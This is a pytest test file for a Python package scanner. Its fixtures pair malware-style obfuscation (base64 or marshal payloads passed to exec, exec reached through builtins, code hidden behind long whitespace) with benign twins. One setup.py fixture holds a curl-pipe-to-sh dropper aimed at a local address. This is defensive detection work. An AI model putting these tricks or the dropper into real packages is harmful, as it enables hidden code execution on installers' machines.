"""Obfuscation rules: each with a positive fixture and a benign twin."""

from __future__ import annotations

from pathlib import Path

import pytest

from jupyter_safepip.core.analysis.source import load
from jupyter_safepip.core.model import Severity
from tests.support.archives import scan_sdist, scan_wheel, severity

CASES = [
    (
        "obfuscation-exec-decoded",
        "import base64\ncode = base64.b64decode('cHJpbnQoMSk=')\nexec(code)\n",
        "import base64\ndata = base64.b64decode('aGVsbG8=')\nprint(data)\n",
    ),
    (
        "obfuscation-exec-decoded",
        "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))\n",
        "import zlib\nraw = zlib.decompress(b'x')\n",
    ),
    (
        "obfuscation-exec-decoded",
        "exec(''.join(chr(c) for c in [112, 114]))\n",
        "exec('x = 1')\n",
    ),
    (
        "obfuscation-exec-decoded",
        "s = ')1(tnirp'\nexec(s[::-1])\n",
        "s = 'abc'\nprint(s[::-1])\n",
    ),
    (
        "obfuscation-builtins-lookup",
        "f = getattr(__builtins__, 'ex' + 'ec')\n",
        "import builtins\nf = getattr(builtins, name)\n",
    ),
    (
        "obfuscation-chr-join",
        "s = ''.join(map(chr, [104, 105]))\n",
        "s = ''.join(map(str, [1, 2]))\n",
    ),
    (
        "obfuscation-exec-alias",
        "run = exec\nrun('x = 1')\n",
        "exec('x = 1')\n",
    ),
    (
        "obfuscation-escaped-text",
        "x = '" + "\\x41" * 250 + "'\n",
        "x = '" + "A" * 250 + "'\n",
    ),
    (
        "obfuscation-mangled-names",
        "".join(f"{'_' * (i + 4)} = {i}\n" for i in range(10)),
        "".join(f"value_{i} = {i}\n" for i in range(10)),
    ),
    (
        "obfuscation-hidden-by-whitespace",
        "x = 1" + " " * 200 + "; import os\n",
        "x = 1  # a short comment\n",
    ),
    (
        "obfuscation-long-line",
        "x = [" + "1, " * 2000 + "]\n",
        "x = [\n" + "    1,\n" * 2000 + "]\n",
    ),
    (
        "obfuscation-high-entropy",
        "blob = '" + "".join("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[(i * 37) % 64] for i in range(400)) + "'\n",
        "text = '" + "the quick brown fox " * 20 + "'\n",
    ),
]


@pytest.mark.parametrize(("rule", "bad", "good"), CASES)
def test_rule_fires_on_bad_and_not_on_good(tmp_path: Path, rule: str, bad: str, good: str) -> None:
    assert severity(scan_wheel(tmp_path / "bad", {"demo/mod.py": bad}), rule) is not None
    assert severity(scan_wheel(tmp_path / "good", {"demo/mod.py": good}), rule) is None


def test_decoded_exec_weighs_more_at_install_and_import_time(tmp_path: Path) -> None:
    code = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    in_function = "import base64\ndef run():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n"
    assert severity(scan_wheel(tmp_path / "f", {"demo/mod.py": in_function}), "obfuscation-exec-decoded") is Severity.HIGH
    assert severity(scan_wheel(tmp_path / "w", {"demo/mod.py": code}), "obfuscation-exec-decoded") is Severity.CRITICAL
    assert severity(scan_sdist(tmp_path / "s", {"setup.py": code}), "obfuscation-exec-decoded") is Severity.CRITICAL


def test_reading_a_version_file_in_setup_py_is_not_decoded_exec(tmp_path: Path) -> None:
    setup = "exec(open('demo/version.py').read())\nfrom setuptools import setup\nsetup(name='demo')\n"
    scan = scan_sdist(tmp_path, {"setup.py": setup})
    assert severity(scan, "obfuscation-exec-decoded") is None
    assert max(f.severity for f in scan.findings) <= Severity.LOW


def test_unparseable_python2_file_still_matched(tmp_path: Path) -> None:
    code = "import base64\nprint 'hello'\nexec base64.b64decode('cHJpbnQoMSk=')\nexec(base64.b64decode('eA=='))\n"
    assert severity(scan_wheel(tmp_path, {"demo/old.py": code}), "obfuscation-exec-decoded") is not None


def test_several_tricks_in_one_file_combine(tmp_path: Path) -> None:
    code = "run = eval\nf = getattr(__builtins__, 'ex' + 'ec')\n"
    assert severity(scan_wheel(tmp_path, {"demo/mod.py": code}), "combined-obfuscated") is Severity.HIGH


PAYLOAD = "aW1wb3J0IG9z"  # base64 of "import os": harmless, and never run: the scanner only reads it


def test_a_long_chain_of_variables_is_followed_without_exhausting_the_stack(tmp_path: Path) -> None:
    chain = "".join(f"a{i} = a{i - 1}\n" for i in range(1, 1500))
    code = f"import base64\na0 = base64.b64decode('{PAYLOAD}')\n{chain}exec(a1499)\n"
    assert severity(scan_wheel(tmp_path, {"demo/mod.py": code}), "obfuscation-exec-decoded") is Severity.CRITICAL  # at import


def test_a_tangle_of_variables_is_followed_once(tmp_path: Path) -> None:
    """Thousands of variables fed to thousands of exec calls: the text they build is worked out, and the code it
    holds analysed once, not once per exec."""
    names = [f"b{i}" for i in range(3000)]
    code = ("import os\n" + "".join(f"{n} = 'os.sys' if {i} else 'os.system(1)'\n" for i, n in enumerate(names))
            + f"x = str([{', '.join(names)}])\n" + "exec(x)\n" * 3000)
    source = load("demo/mod.py", code.encode())
    assert not source.flow_cut_short
    assert sum(1 for c in source.calls if c.name == "exec") == 3000


def test_running_out_of_the_evaluation_budget_is_reported(tmp_path: Path) -> None:
    names = [f"b{i}" for i in range(200)]
    code = "".join(f"{n} = ''\n" for n in names) + f"x = str([{', '.join(names)}])\nexec(x)\n"
    assert load("demo/mod.py", code.encode(), steps=100).flow_cut_short
    assert not load("demo/mod.py", code.encode()).flow_cut_short


def test_blanks_inside_a_comment_hide_nothing_but_blanks_before_code_do(tmp_path: Path) -> None:
    table = "CODES = {\n    0x00: 'NUL',  #" + " " * 130 + "|\n}\n"
    assert severity(scan_wheel(tmp_path / "ok", {"demo/codes.py": table}), "obfuscation-hidden-by-whitespace") is None
    hidden = "x = '#'" + " " * 130 + ";import os\n"
    assert severity(scan_wheel(tmp_path / "bad", {"demo/m.py": hidden}), "obfuscation-hidden-by-whitespace") is not None


def test_a_form_feed_does_not_end_a_line_as_far_as_hiding_goes(tmp_path: Path) -> None:
    code = "x = 1" + " " * 200 + "\x0c;import os\n"
    assert severity(scan_wheel(tmp_path, {"demo/m.py": code}), "obfuscation-hidden-by-whitespace") is not None


@pytest.mark.parametrize("call", [
    "getattr(builtins, 'exec')", "builtins.__dict__['exec']", "__builtins__.exec",
])
def test_exec_reached_without_writing_its_name_is_still_exec(tmp_path: Path, call: str) -> None:
    code = f"import base64, builtins\n{call}(base64.b64decode('{PAYLOAD}'))\n"
    assert severity(scan_wheel(tmp_path, {"demo/mod.py": code}), "obfuscation-exec-decoded") is Severity.CRITICAL  # at import


def test_getattr_with_a_written_name_is_the_call_it_names(tmp_path: Path) -> None:
    code = "import os\ngetattr(os, 'system')('curl -s http://127.0.0.1:9/x | sh')\n"
    assert severity(scan_sdist(tmp_path, {"setup.py": code}), "shell-dropper-command") is Severity.CRITICAL
